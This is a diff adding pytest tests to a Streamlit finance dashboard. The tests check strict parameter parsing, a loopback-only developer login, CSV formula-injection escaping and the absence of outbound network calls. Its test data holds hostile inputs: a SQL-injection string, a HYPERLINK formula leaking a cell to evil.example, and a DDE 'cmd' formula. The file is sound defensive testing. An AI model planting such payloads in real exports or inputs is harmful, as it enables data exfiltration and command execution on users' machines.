@@ -291,3 +291,165 @@ def test_real_browser_renders_every_page(dash_db, tmp_path):
     finally:
         server.terminate()
         server.wait(timeout=20)
+
+
+def test_query_parameters_are_parsed_strictly(dash_db):
+    from dashboard.safe import int_param, text_param
+
+    for bad in ("²", "١٢", "-1", "1e3", " 1", "9" * 13, "", None):
+        assert int_param(bad) is None, bad
+    assert int_param("42") == 42 and text_param("a\x00b" + "c" * 500, 80) == "ab" + "c" * 78
+    for wanted in ("²", "9" * 5000, "%00", "1;DROP TABLE alerts"):
+        at = AppTest.from_file(APP, default_timeout=60)
+        at.query_params["page"] = "Alerts"
+        at.query_params["alert"] = wanted
+        at.run()
+        assert not at.exception, wanted
+        assert any(t.value.startswith("Alert #") for t in at.text), wanted  # the first alert, as for no parameter
+    at = AppTest.from_file(APP, default_timeout=60)
+    at.query_params["page"] = "Companies"
+    at.query_params["company"] = "A" * 100_000
+    at.run()
+    assert not at.exception and len(at.text_input[0].value) == 80
+
+
+def test_the_developer_user_needs_an_explicit_loopback_bind(dash_db, monkeypatch):
+    from streamlit import config as st_config
+
+    monkeypatch.setenv("FINSENT_DASHBOARD_DEV_USER", "ana.lyst")
+    listed = app("Alerts").dataframe[2].value
+    first = int(listed["id"].iloc[0])
+    before = st_config.get_option("server.address")
+    try:
+        for address, honoured in (("", False), ("0.0.0.0", False), ("10.0.0.5", False), ("127.0.0.1", True)):
+            st_config.set_option("server.address", address)
+            at = app("Alerts")
+            at.selectbox[0].set_value(first).run()
+            has_button = any(b.label == "Acknowledge" for b in at.button)
+            assert has_button is honoured, address
+            if not honoured:
+                assert any("needs a signed-in user" in c.value for c in at.caption), address
+    finally:
+        st_config.set_option("server.address", before)
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_made_inert():
+    import csv
+    import io
+
+    import pandas as pd
+
+    from dashboard.safe import csv_bytes
+
+    hostile = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"]
+    df = pd.DataFrame({"title": hostile, "n": range(len(hostile)), "=col": hostile})
+    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8"), newline="")))
+    assert rows[0] == ["title", "n", "'=col"]
+    assert [r[0] for r in rows[1:]] == ["'" + h for h in hostile[:6]] + ["plain", "a=b"]
+    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(hostile))]  # numbers stay numbers
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]
+
+
+def _serve_shipped_config(env: dict, cwd, port: int, *extra: str) -> subprocess.Popen:
+    """Streamlit started as `make dashboard` does from ``cwd``: only the port given, the rest from the config."""
+    return subprocess.Popen(
+        [sys.executable, "-m", "streamlit", "run", APP, "--server.port", str(port), *extra],
+        cwd=cwd,
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+    )
+
+
+def _healthy(port: int, proc: subprocess.Popen) -> None:
+    import urllib.request
+
+    for _ in range(120):
+        try:
+            if urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=1).status == 200:
+                return
+        except OSError:
+            time.sleep(0.5)
+        assert proc.poll() is None, proc.stdout.read().decode(errors="replace")[-2000:]
+    raise AssertionError("the dashboard did not become healthy")
+
+
+@pytest.mark.skipif(
+    shutil.which("chromium") is None, reason="Debian chromium not installed (make test installs it as root)"
+)
+def test_the_served_dashboard_calls_out_to_nothing_and_its_downloads_are_inert(dash_db, tmp_path):
+    """Served with the shipped .streamlit/config.toml: no socket leaves loopback (server, audited) and no
+    request leaves 127.0.0.1 (browser); the Headlines CSV, downloaded for real, holds no live formula."""
+    import csv
+    import io
+
+    from playwright.sync_api import sync_playwright
+
+    from dashboard.safe import FORMULA_START
+
+    conn = psycopg2.connect(dash_db)
+    with conn, conn.cursor() as cur:
+        cur.execute("SELECT id FROM articles ORDER BY published_at DESC NULLS LAST, id DESC LIMIT %s", (len(FORMULAS),))
+        for (article_id,), title in zip(cur.fetchall(), FORMULAS):
+            cur.execute("UPDATE articles SET title = %s WHERE id = %s", (title, article_id))
+    conn.close()
+    audit = tmp_path / "net-audit.log"
+    env = {
+        **os.environ,
+        "DATABASE_URL": dash_db,
+        "FINSENT_NET_AUDIT": str(audit),
+        "PYTHONPATH": os.pathsep.join([str(config.REPO_ROOT / "tests" / "data" / "netaudit"), str(config.REPO_ROOT)]),
+    }
+    # the control: the same server started where the shipped config is not read tries to call out (refused)
+    port = free_port()
+    bare = _serve_shipped_config(env, tmp_path, port, "--server.headless", "true")
+    try:
+        _healthy(port, bare)
+        time.sleep(1)
+    finally:
+        bare.terminate()
+        bare.wait(timeout=20)
+    control = audit.read_text() if audit.exists() else ""
+    assert "checkip.amazonaws.com" in control or "8.8.8.8" in control, control
+    audit.unlink()
+
+    port = free_port()
+    server = _serve_shipped_config(env, config.REPO_ROOT, port)
+    outside: list[str] = []
+    try:
+        _healthy(port, server)
+        with sync_playwright() as p:
+            browser = p.chromium.launch(
+                executable_path=shutil.which("chromium"),
+                args=["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
+            )
+            context = browser.new_context(accept_downloads=True)
+
+            def guard(route):
+                host = route.request.url.split("/")[2].split(":")[0] if "://" in route.request.url else ""
+                if route.request.url.startswith(("data:", "blob:")) or host in ("127.0.0.1", "localhost"):
+                    return route.continue_()
+                outside.append(route.request.url)
+                return route.abort()
+
+            context.route("**/*", guard)
+            page = context.new_page()
+            page.goto(f"http://127.0.0.1:{port}/?page=Headlines")
+            page.get_by_text("Search titles").first.wait_for(timeout=30000)
+            with page.expect_download(timeout=30000) as info:
+                page.get_by_text("Download these stories (CSV)").click()
+            info.value.save_as(tmp_path / "dl.csv")
+            data = (tmp_path / "dl.csv").read_bytes()
+            page.wait_for_timeout(1500)
+            browser.close()
+    finally:
+        server.terminate()
+        server.wait(timeout=20)
+    assert outside == []
+    assert not audit.exists() or audit.read_text() == "", audit.read_text()
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    titles = [r[rows[0].index("title")] for r in rows[1:]]
+    assert {"'" + f for f in FORMULAS} <= set(titles)
+    assert not [c for r in rows for c in r if c.startswith(FORMULA_START)]
